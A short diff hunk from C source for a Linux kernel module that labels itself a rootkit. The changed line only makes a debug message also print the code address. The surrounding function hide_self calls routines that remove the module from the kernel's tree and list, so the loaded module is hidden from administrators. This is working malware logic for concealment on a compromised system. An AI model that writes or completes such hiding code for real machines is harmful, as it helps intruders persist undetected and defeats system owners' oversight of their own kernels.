@@ -182,7 +182,7 @@ static void leave_tree(void)
 /* Done a moment later: the kernel still works on a module whose init runs. */
 static void hide_self(struct work_struct *work)
 {
-	pr_info("rootkit: module %px hides from %s\n", THIS_MODULE, self);
+	pr_info("rootkit: module %px, code %px, hides from %s\n", THIS_MODULE, hide_self, self);
 	if (has(self, "tree"))
 		leave_tree();
 	if (has(self, "list"))
